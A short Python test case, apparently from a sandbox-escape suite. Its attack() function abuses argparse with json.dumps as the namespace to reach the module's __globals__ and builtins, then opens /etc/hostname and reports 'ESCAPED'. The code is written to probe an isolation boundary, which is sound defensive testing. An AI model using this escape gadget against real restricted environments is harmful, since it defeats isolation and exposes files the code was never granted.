"""No granted library reads for an app what its own code may not read."""

CLASS = "privates"
BOUNDARY = "both"
NEEDS = ("argparse", "json")


import argparse
import json


def attack():
    parser = argparse.ArgumentParser()
    parser.add_argument("--x", action="append", dest="__globals__")
    try:
        parser.parse_args(["--x", "1"], namespace=json.dumps)
    except AttributeError as error:
        builtins = error.obj["__builtins__"]
    opened = builtins["open"] if isinstance(builtins, dict) else builtins.open
    return "ESCAPED: " + opened("/etc/hostname").read(20)
